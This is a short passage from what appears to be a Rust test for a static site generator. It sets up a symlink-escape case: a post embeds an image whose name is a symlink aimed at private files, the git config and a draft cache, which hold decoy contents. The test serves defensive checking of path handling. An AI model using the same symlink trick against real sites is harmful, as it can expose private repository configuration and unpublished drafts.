                &format!("+++\ntitle = \"Hello\"\ndate = 2021-01-25\n+++\n![Figure]({name})\n"),
            );
            j.write("site/.git/config", DECOY);
            j.write("site/.gazette/cache/draft", DECOY);
            std::os::unix::fs::symlink(target, j.site().join("content/news").join(name)).unwrap();
        });
    }
}
